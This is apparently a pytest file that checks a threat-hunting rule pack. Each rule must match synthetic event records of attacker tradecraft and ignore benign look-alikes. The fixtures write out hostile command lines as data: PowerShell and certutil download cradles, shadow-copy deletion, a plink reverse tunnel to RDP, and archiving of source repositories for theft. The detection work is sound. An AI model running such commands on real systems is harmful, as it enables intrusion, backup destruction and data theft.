"""geobuk's own rule pack: every rule loads, carries the metadata findings need, and matches the
tradecraft it describes but not the benign activity that looks most like it."""

from __future__ import annotations

import re
import uuid
from pathlib import Path

import pytest
import yaml

from detect_helpers import SYSMON, table_of
from geobuk.detect.attribution import attribution_from_store
from geobuk.detect.engine import Batch, match_rules
from geobuk.detect.plan import Plan
from geobuk.detect.rulesets import BUILTIN_RULES, load_ruleset, rule_files
from geobuk.intel.importing import ensure_builtin_pack
from geobuk.intel.pack import load_pack

SYS32 = "C:\\Windows\\System32\\"
PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CMD = SYS32 + "cmd.exe"
JUMPCLOUD = "C:\\Program Files\\JumpCloud\\jumpcloud-agent.exe"
NODE = "C:\\Program Files\\nodejs\\node.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
HOME = "C:\\Users\\dev"
EXPLORER = "C:\\Windows\\explorer.exe"
ATERA = "C:\\Program Files\\ATERA Networks\\AteraAgent\\AteraAgent.exe"
MAC_JC = "/opt/jc/bin/jumpcloud-agent"
APP_3CX = "C:\\Users\\a\\AppData\\Local\\Programs\\3CXDesktopApp\\3CXDesktopApp.exe"
CRD = "C:\\Program Files (x86)\\Google\\Chrome Remote Desktop\\CurrentVersion\\"
SEVEN = "C:\\Program Files\\7-Zip\\7z.exe"
GIT = "C:\\Program Files\\Git\\cmd\\git.exe"
HH = "C:\\Windows\\hh.exe"
LEVELS = {"informational", "low", "medium", "high", "critical"}
REQUIRED = ("title", "id", "status", "description", "references", "author", "date", "tags", "actor",
            "logsource", "detection", "falsepositives", "level")


def proc(image: str, command_line: str = "", parent: str = EXPLORER, **fields: str) -> dict:
    """A Sysmon process creation."""
    return {"Channel": SYSMON, "EventID": "1", "Image": image, "CommandLine": command_line,
            "ParentImage": parent, **fields}


def proc4688(image: str, command_line: str, parent: str) -> dict:
    """The same, as Windows' own process-creation audit records it."""
    return {"Channel": "Security", "EventID": "4688", "NewProcessName": image, "CommandLine": command_line,
            "ParentProcessName": parent}


def dns(name: str, image: str = SYS32 + "svchost.exe") -> dict:
    return {"Channel": SYSMON, "EventID": "22", "QueryName": name, "Image": image}


def net(image: str, port: int, ip: str = "192.0.2.10", initiated: str = "true") -> dict:
    return {"Channel": SYSMON, "EventID": "3", "Image": image, "DestinationIp": ip,
            "DestinationPort": str(port), "Initiated": initiated}


def file(target: str, image: str = SYS32 + "curl.exe") -> dict:
    return {"Channel": SYSMON, "EventID": "11", "TargetFilename": target, "Image": image}


def reg(key: str, details: str, image: str = SYS32 + "reg.exe") -> dict:
    return {"Channel": SYSMON, "EventID": "13", "EventType": "SetValue", "TargetObject": key,
            "Details": details, "Image": image}


def pnp(description: str, vendor_ids: str) -> dict:
    return {"Channel": "Security", "EventID": "6416", "DeviceDescription": description,
            "VendorIds": vendor_ids, "ClassName": "USB"}


def mac_proc(image: str, command_line: str, parent: str) -> dict:
    """A macOS process event (EDR or Sysmon-for-Linux style: no Windows channel)."""
    return {"Image": image, "CommandLine": command_line, "ParentImage": parent}


RDP_KEY = "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections"

# rule id -> (events it must match, look-alike events it must not match)
CASES: dict[str, tuple[list[dict], list[dict]]] = {
    # JumpCloud agent spawns a downloader
    "09a103e1-5fe4-4ea2-b32c-abe9da881d80": (
        [proc(PS, "powershell -c \"iwr https://upd.example.com/a.ps1 -OutFile $env:TEMP\\a.ps1\"", JUMPCLOUD),
         proc(SYS32 + "curl.exe", "curl -o C:\\ProgramData\\x.exe http://192.0.2.45/x", JUMPCLOUD),
         proc4688(SYS32 + "certutil.exe", "certutil -urlcache -f http://192.0.2.45/x x.exe", JUMPCLOUD)],
        [proc(PS, "powershell -NoProfile -Command \"Get-LocalUser | ConvertTo-Json\"", JUMPCLOUD),
         proc(PS, "powershell -Command \"Remove-Item C:\\Temp\\old -Confirm $false\"", JUMPCLOUD),
         proc(SYS32 + "curl.exe", "curl -o x.exe http://192.0.2.45/x", CMD),
         proc4688(PS, "powershell -NoProfile -Command Get-Service", JUMPCLOUD)],
    ),
    # IT management agent spawns a script host
    "89a8d92d-be89-4f22-b736-cd00dc2ac8c0": (
        [proc(SYS32 + "mshta.exe", "mshta http://192.0.2.45/a.hta", ATERA),
         proc(SYS32 + "rundll32.exe", "rundll32 C:\\ProgramData\\x.dll,Start", JUMPCLOUD)],
        [proc(PS, "powershell -File inventory.ps1", ATERA),
         proc(SYS32 + "mshta.exe", "mshta C:\\help\\about.hta")],
    ),
    # JumpCloud agent on macOS runs a staged script
    "27aeb598-be39-4be6-a3ae-f953990822ce": (
        [mac_proc("/usr/bin/ruby", "ruby /var/folders/zz/T/init.rb", MAC_JC),
         mac_proc("/usr/bin/curl", "curl -sLo /tmp/x https://upd.example.com/x", MAC_JC)],
        [mac_proc("/usr/bin/ruby", "ruby /opt/jc/scripts/inventory.rb", MAC_JC),
         mac_proc("/usr/bin/curl", "curl -sLo /tmp/x https://upd.example.com/x", "/bin/zsh")],
    ),
    # 3CX desktop app spawns a shell
    "fc374579-a4b1-47a9-991d-80a283e28524": (
        [proc(CMD, "cmd.exe /c whoami /all", APP_3CX)],
        [proc(APP_3CX, "--type=renderer", APP_3CX),
         proc(CMD, "cmd.exe /c whoami /all", "C:\\Program Files\\Microsoft Teams\\Teams.exe")],
    ),
    # remote desktop tool from a user folder
    "f8e5ca69-babc-4def-9d5b-a3d1b3e7204f": (
        [proc(HOME + "\\Downloads\\AnyDesk.exe", "AnyDesk.exe"),
         proc(HOME + "\\Desktop\\rd.exe", "rd.exe", Product="RustDesk")],
        [proc("C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe", "AnyDesk.exe --service"),
         proc(HOME + "\\Downloads\\ChromeSetup.exe", "ChromeSetup.exe", Product="Google Chrome Installer")],
    ),
    # remote desktop tool configured for unattended access
    "e5a8b1c9-0bbd-4bea-bfcf-fb1e2df550c5": (
        [proc("C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe", "AnyDesk.exe --set-password", CMD),
         proc(CRD + "remoting_start_host.exe", "remoting_start_host.exe --code=\"4/0AbCd\" --redirect-url="
              "\"https://remotedesktop.google.com/_/oauthredirect\" --name=%COMPUTERNAME%"),
         proc(HOME + "\\rustdesk.exe", "rustdesk.exe --config 9JSPSlXZ", CMD)],
        [proc("C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe", "AnyDesk.exe --get-id", CMD),
         proc(CRD + "remoting_host.exe", "remoting_host.exe --type=desktop")],
    ),
    # Astrill VPN client
    "bcb7e0d9-f792-42fc-9dd1-2fccaf228425": (
        [proc("C:\\Program Files (x86)\\Astrill\\astrill.exe", "astrill.exe /autostart"),
         proc(HOME + "\\Downloads\\vpn.exe", "vpn.exe", Company="Astrill Systems Corp.")],
        [proc("C:\\Program Files\\NordVPN\\NordVPN.exe", "NordVPN.exe", Company="nordvpn s.a."),
         proc(CHROME, "chrome.exe https://www.astrill.com/")],
    ),
    # Maui-style command-line encryptor
    "13b2d230-e95d-4806-b2ed-c5ffdf0b69d9": (
        [proc("C:\\ProgramData\\maui.exe", "maui.exe E:\\Shares", CMD),
         proc("C:\\Users\\Public\\svc.exe", "svc.exe -p C:\\Users\\Public\\log -t 4 -x D:\\Data", CMD),
         proc("C:\\Temp\\w.exe", "w.exe -t8 -x -pC:\\Temp\\l F:\\", CMD)],
        [proc("C:\\Program Files\\Tool\\tool.exe", "tool.exe -p C:\\out -t 4 -x D:\\Data", CMD),
         proc("C:\\Users\\Public\\svc.exe", "svc.exe -t 4 D:\\Data", CMD),
         proc("C:\\Users\\Public\\svc.exe", "svc.exe -p C:\\log -t 4 -xml D:\\Data", CMD)],
    ),
    # shadow copies deleted
    "ba659bc2-de47-4694-a4f0-37043b517693": (
        [proc(SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD),
         proc(SYS32 + "wbem\\WMIC.exe", "wmic shadowcopy delete /nointeractive", CMD),
         proc(PS, "powershell \"Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }\"", CMD),
         proc(SYS32 + "wbadmin.exe", "wbadmin delete catalog -quiet", CMD)],
        [proc(SYS32 + "vssadmin.exe", "vssadmin list shadows", CMD),
         proc(PS, "powershell \"Get-WmiObject Win32_ShadowCopy | Select-Object InstallDate\"", CMD),
         proc(SYS32 + "wbadmin.exe", "wbadmin start backup -backupTarget:E: -quiet", CMD)],
    ),
    # 3proxy
    "4ba9a4f1-87b8-4f34-8250-557a6ad482ff": (
        [proc("C:\\ProgramData\\3proxy.exe", "3proxy.exe", CMD),
         proc("C:\\ProgramData\\svchost.exe", "svchost.exe C:\\ProgramData\\conf\\3proxy.cfg", CMD)],
        [proc("C:\\ProgramData\\squid\\sbin\\squid.exe", "squid.exe -f C:\\squid\\squid.conf", CMD)],
    ),
    # Plink tunnel
    "4a98e16c-29c5-4e04-bc62-cce10ead5b25": (
        [proc("C:\\ProgramData\\plink.exe",
              "plink.exe -ssh -P 443 -l r -pw P4ss -R 0.0.0.0:8080:127.0.0.1:3389 192.0.2.45", CMD),
         proc("C:\\ProgramData\\pl.exe", "pl.exe -batch -L 9000:10.0.0.5:445 u@192.0.2.45", CMD,
              Description="Command-line SSH, Telnet, and Rlogin client")],
        [proc("C:\\Program Files\\PuTTY\\plink.exe", "plink.exe -ssh admin@build-01", CMD),
         proc("C:\\Program Files\\PuTTY\\plink.exe", "plink.exe -batch -pw x admin@build-01 uptime", CMD)],
    ),
    # certutil download
    "6e0b0c78-6729-4b78-a301-4f20474fc95c": (
        [proc(SYS32 + "certutil.exe", "certutil.exe -urlcache -split -f http://192.0.2.45/a.exe a.exe", CMD),
         proc(SYS32 + "certutil.exe", "certutil /urlcache /f https://192.0.2.45/a a", CMD),
         proc4688(SYS32 + "certutil.exe", "certutil -verifyctl -f http://192.0.2.45/a.txt", CMD)],
        [proc(SYS32 + "certutil.exe", "certutil -hashfile C:\\a.exe SHA256", CMD),
         proc(SYS32 + "certutil.exe", "certutil -urlcache * delete", CMD),
         proc4688(SYS32 + "certutil.exe", "certutil -dump cert.cer", CMD)],
    ),
    # PowerShell download cradle
    "232b7475-a54f-4f0d-aa7c-181f5ad7f4a8": (
        [proc(PS, "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"", CMD),
         proc(PS, "powershell Invoke-WebRequest http://x/a.exe -OutFile C:\\ProgramData\\a.exe", CMD),
         proc(PS, "powershell -c \"irm http://x/a.ps1 | iex\"", CMD)],
        [proc(PS, "powershell iex ((New-Object System.Net.WebClient).DownloadString("
              "'https://community.chocolatey.org/install.ps1'))", CMD),
         proc(PS, "powershell Invoke-WebRequest https://x/tool.zip -OutFile .\\tool.zip", CMD),
         proc(PS, "powershell Get-ChildItem C:\\ProgramData\\Index | Remove-Item -Confirm $false", CMD)],
    ),
    # password-protected archive in a staging folder
    "9691b688-24a6-49d5-b765-cc675dcbbf38": (
        [proc("C:\\ProgramData\\rar.exe", "rar.exe a -hpS3cret C:\\ProgramData\\t\\o.rar D:\\Docs", CMD),
         proc(SEVEN, "7z.exe a -pX C:\\Windows\\Temp\\c.7z D:\\Finance", CMD)],
        [proc(SEVEN, "7z.exe a C:\\ProgramData\\logs.7z C:\\ProgramData\\app\\logs", CMD),
         proc(SEVEN, "7z.exe a -pX C:\\Users\\a\\Documents\\o.7z D:\\x", CMD)],
    ),
    # InvisibleFerret run by BeaverTail's python
    "a03a0fa3-14fc-4672-90a9-65dfd1d6b24b": (
        [proc(HOME + "\\.pyp\\python.exe", f"{HOME}\\.pyp\\python.exe {HOME}\\.npl", NODE),
         proc("C:\\Python312\\python.exe", f"python.exe {HOME}\\.n2\\pay", NODE)],
        [proc("C:\\Python312\\python.exe", "python.exe manage.py runserver", CMD),
         proc(HOME + "\\.pyenv\\pyenv-win\\versions\\3.12.0\\python.exe", "python.exe -m pytest", CMD)],
    ),
    # node fetches BeaverTail's python bundle
    "eed4bade-92f9-4fe3-bac1-c8266a5964ca": (
        [proc(CMD, f"cmd.exe /d /s /c \"curl -Lo \"{HOME}\\p.zi\" \"http://192.0.2.45:1224/pdown\"\"", NODE),
         proc(SYS32 + "tar.exe", f"tar -xf {HOME}\\p.zi -C {HOME}", NODE)],
        [proc(CMD, "cmd.exe /d /s /c \"npm run build\"", NODE),
         proc(SYS32 + "curl.exe", f"curl -Lo \"{HOME}\\p.zi\" \"http://192.0.2.45:1224/pdown\"", CMD)],
    ),
    # folder of source repositories archived
    "bfc40c44-587c-43cd-897b-be3cd4d5184e": (
        [proc(SEVEN, f"7z.exe a {HOME}\\Desktop\\all.7z {HOME}\\source\\repos\\*"),
         proc(PS, f"powershell Compress-Archive -Path {HOME}\\GitHub\\* -DestinationPath D:\\code.zip")],
        [proc(SEVEN, f"7z.exe a {HOME}\\Documents\\photos.7z {HOME}\\Pictures"),
         proc(PS, f"powershell Compress-Archive -Path {HOME}\\Documents\\cv -DestinationPath D:\\cv.zip")],
    ),
    # scripted clone of many repositories
    "2f0d8f60-28fa-4e1f-8f87-5b4f63081d19": (
        [proc(PS, "powershell \"gh repo list acme --limit 500 --json name -q '.[].name' | ForEach-Object "
              "{ gh repo clone acme/$_ }\""),
         proc(CMD, "cmd /c \"for /f %r in (repos.txt) do git clone https://git.acme.example/%r\"")],
        [proc(GIT, "git.exe clone https://github.com/acme/app.git"),
         proc(PS, "powershell \"gh repo list acme --limit 20\"")],
    ),
    # git repository exported whole
    "4d8cc3b0-7e86-463c-a4bb-cf35819869b3": (
        [proc(GIT, "git.exe clone --mirror https://github.com/acme/app.git"),
         proc(GIT, "git.exe bundle create all.bundle --all")],
        [proc(GIT, "git.exe clone https://github.com/acme/app.git"),
         proc(GIT, "git.exe fetch --prune origin")],
    ),
    # CHM spawns a shell
    "fd8074ba-cd4c-4977-8d5c-8fb889a14bee": (
        [proc(PS, "powershell -w hidden -c \"Start-Process C:\\Users\\Public\\a.vbs\"", HH)],
        [proc(HH, "hh.exe C:\\docs\\manual.chm"),
         proc(PS, "powershell -NoLogo")],
    ),
    # IP-KVM lookups
    "fb66885e-a6aa-433a-96b3-8e88a69b02e6": (
        [dns("pikvm.local", CHROME), dns("files.pikvm.org"), dns("app.jetkvm.com", HOME + "\\agent.exe")],
        [dns("docs.pikvm.org", CHROME), dns("notpikvm.org"), dns("tinypilot.example.com")],
    ),
    # Astrill lookups
    "9105eb54-04b0-45ab-b31e-98852662c3ab": (
        [dns("api.astrill.com", "C:\\Program Files (x86)\\Astrill\\astrill.exe"), dns("astrill.com")],
        [dns("notastrill.com"), dns("astrill.com.example.net")],
    ),
    # remote desktop relay lookups
    "42cb1792-cc73-41e8-8ae5-14710f28a8ef": (
        [dns("relay-1a2b3c4d.net.anydesk.com", HOME + "\\Downloads\\AnyDesk.exe"),
         dns("rs-ny.rustdesk.com", HOME + "\\rustdesk.exe")],
        [dns("get.teamviewer.com", CHROME), dns("anydesk.com", SYS32 + "svchost.exe")],
    ),
    # 3CX app resolves GitHub
    "8a775810-6679-4b66-ab82-8b5d89b01ae1": (
        [dns("raw.githubusercontent.com", APP_3CX)],
        [dns("acme.3cx.us", APP_3CX),
         dns("github.com", "C:\\Program Files\\Git\\mingw64\\bin\\git-remote-https.exe")],
    ),
    # Contagious Interview server ports
    "d00deda0-dac5-4886-8b1e-3cd35cbb476f": (
        [net(NODE, 1224), net("C:\\Users\\dev\\.pyp\\python.exe", 1245)],
        [net(NODE, 443), net(CHROME, 1224), net(NODE, 1224, initiated="false")],
    ),
    # RustDesk rendezvous ports
    "c1af06e8-50c5-43a6-80cf-e050f4591a46": (
        [net(HOME + "\\rustdesk.exe", 21116), net(HOME + "\\svc.exe", 21117)],
        [net(HOME + "\\rustdesk.exe", 443), net(HOME + "\\rustdesk.exe", 21116, initiated="false"),
         net(HOME + "\\svc.exe", 21118)],
    ),
    # Maui key files
    "3c209445-9a82-4e65-904c-9ac21ea0d03a": (
        [file("C:\\ProgramData\\maui.evd", "C:\\ProgramData\\maui.exe"), file("E:\\Shares\\maui.key")],
        [file(f"{HOME}\\source\\repos\\MauiApp\\MauiProgram.cs"), file("C:\\ProgramData\\maui.log")],
    ),
    # BeaverTail payload files
    "b47f8c62-28c5-4842-94f6-5fef6f6f3b29": (
        [file(f"{HOME}\\p.zi"), file(f"{HOME}\\.n2\\bow", f"{HOME}\\.pyp\\python.exe"),
         file(f"{HOME}\\.pyp\\python.exe")],
        [file(f"{HOME}\\project\\app.npl"), file(f"{HOME}\\Downloads\\map.zip")],
    ),
    # RDP enabled through the registry
    "f5d19af2-e1c8-459b-9515-2344a5e0e0a1": (
        [reg(RDP_KEY, "DWORD (0x00000000)"), reg(RDP_KEY, "DWORD (0x00000000)", "C:\\ProgramData\\svc.exe")],
        [reg(RDP_KEY, "DWORD (0x00000000)", SYS32 + "SystemPropertiesRemote.exe"),
         reg(RDP_KEY, "DWORD (0x00000001)")],
    ),
    # IP-KVM USB device
    "5eac1357-0385-4411-8333-c85d38de58f0": (
        [pnp("USB Composite Device", "USB\\VID_1D6B&PID_0104&REV_0510 USB\\VID_1D6B&PID_0104"),
         pnp("PiKVM Composite Device", "USB\\VID_1234&PID_5678")],
        [pnp("USB Composite Device", "USB\\VID_046D&PID_C52B&REV_1211 USB\\VID_046D&PID_C52B"),
         {"Channel": "Security", "EventID": "4624", "VendorIds": "USB\\VID_1D6B&PID_0104"}],
    ),
}


@pytest.fixture(scope="module")
def ruleset():
    return load_ruleset([BUILTIN_RULES])


@pytest.fixture(scope="module")
def documents() -> dict[Path, dict]:
    out = {}
    for path in rule_files([BUILTIN_RULES]):
        docs = [d for d in yaml.safe_load_all(path.read_text(encoding="utf-8")) if d]
        assert len(docs) == 1, f"{path}: one rule per file"
        out[path] = docs[0]
    return out


def matches(ruleset, rule_id: str, events: list[dict]) -> list[bool]:
    """For each event, whether the rule matches it (each event in a table of its own, so that
    columns one event lacks are truly absent)."""
    rule = [r for r in ruleset.rules if r.id == rule_id]
    assert len(rule) == 1, rule_id
    out = []
    for event in events:
        hits = match_rules(Batch(table_of([event]), Plan(rule)), rule)
        out.append(bool(len(hits.get(rule_id, ()))))
    return out


def test_pack_loads_without_problems(ruleset, documents):
    assert ruleset.problems == []
    assert len(ruleset.rules) == len(documents) >= 20
    assert len({r.id for r in ruleset.rules}) == len(ruleset.rules)


def test_every_rule_has_cases_and_every_case_a_rule(ruleset):
    assert {r.id for r in ruleset.rules} == set(CASES)


def test_metadata(documents):
    for path, doc in documents.items():
        missing = [k for k in REQUIRED if not doc.get(k)]
        assert not missing, f"{path.name}: missing {missing}"
        assert str(uuid.UUID(doc["id"])) == doc["id"], path.name
        assert doc["status"] == "experimental" and doc["author"] == "geobuk", path.name
        assert doc["level"] in LEVELS, path.name
        assert all(isinstance(r, str) and r.startswith("https://") for r in doc["references"]), path.name
        assert any(re.fullmatch(r"attack\.t\d{4}(\.\d{3})?", t) for t in doc["tags"]), path.name
        assert any(re.fullmatch(r"attack\.[a-z-]+", t) and not re.search(r"\d", t) for t in doc["tags"]), \
            f"{path.name}: an ATT&CK tactic tag"
        assert path.parent.parent == BUILTIN_RULES, f"{path}: rules live in one folder per log source"


def test_actor_is_an_actor_of_the_intel_pack(documents):
    # Aliases overlap across actors (Andariel is also listed under Lazarus Group, Famous Chollima under
    # Contagious Interview): rules use the canonical name, which picks exactly one actor.
    actors = [o for o in load_pack() if o["type"] in ("intrusion-set", "threat-actor")]
    names = {n.casefold() for o in actors for n in (o["name"], *o.get("aliases", []))}
    for path, doc in documents.items():
        actor = str(doc["actor"])
        assert actor.casefold() in names, f"{path.name}: {actor!r} is no actor name or alias in the pack"
        owners = [o["id"] for o in actors if o["name"] == actor]
        assert len(owners) == 1, f"{path.name}: {actor!r} is not the canonical name of one pack actor"


def test_compiled_rules_carry_actor_and_metadata(ruleset, documents):
    by_id = {d["id"]: d for d in documents.values()}
    for rule in ruleset.rules:
        doc = by_id[rule.id]
        assert rule.extra["actor"] == doc["actor"]
        assert rule.level == doc["level"] and rule.title == doc["title"]
        assert rule.references and rule.falsepositives


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_matches_its_tradecraft(ruleset, rule_id):
    positives, _ = CASES[rule_id]
    assert positives
    assert matches(ruleset, rule_id, positives) == [True] * len(positives)


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_ignores_look_alikes(ruleset, rule_id):
    _, negatives = CASES[rule_id]
    assert negatives
    assert matches(ruleset, rule_id, negatives) == [False] * len(negatives)


def test_process_rules_also_match_security_4688(ruleset):
    # The same command line, as Sysmon and as Windows auditing record it, matches the same rule.
    line = "certutil.exe -urlcache -split -f http://192.0.2.45/a.exe a.exe"
    events = [proc(SYS32 + "certutil.exe", line, CMD), proc4688(SYS32 + "certutil.exe", line, CMD),
              {**proc4688(SYS32 + "certutil.exe", line, CMD), "EventID": "4689"}]
    assert matches(ruleset, "6e0b0c78-6729-4b78-a301-4f20474fc95c", events) == [True, True, False]


def test_windows_rules_need_their_channel(ruleset):
    # A matching command line in some other log (an application log quoting it) is not a detection.
    event = proc(SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD)
    events = [event, {**event, "Channel": "Application"}, {**event, "EventID": "11"}]
    assert matches(ruleset, "ba659bc2-de47-4694-a4f0-37043b517693", events) == [True, False, False]


def test_all_rules_together_on_a_mixed_batch(ruleset):
    # In one table (union of columns, one plan for every rule) each positive still hits its rule.
    events, expected = [], []
    for rule_id, (positives, negatives) in sorted(CASES.items()):
        for event in positives:
            events.append(event)
            expected.append(rule_id)
        events += negatives
        expected += [None] * len(negatives)
    hits = match_rules(Batch(table_of(events), Plan(ruleset.rules)), ruleset.rules)
    for row, rule_id in enumerate(expected):
        if rule_id is not None:
            assert row in set(hits.get(rule_id, ())), (rule_id, events[row])


def test_findings_are_attributed_to_the_rule_actor(ruleset, documents, store):
    # What a hunt shows: the rule's actor resolved through the intel store to that same actor.
    ensure_builtin_pack(store)
    attribution = attribution_from_store(store)
    by_id = {d["id"]: d["actor"] for d in documents.values()}
    assert {r.id: attribution.rule_actor(r) for r in ruleset.rules} == by_id
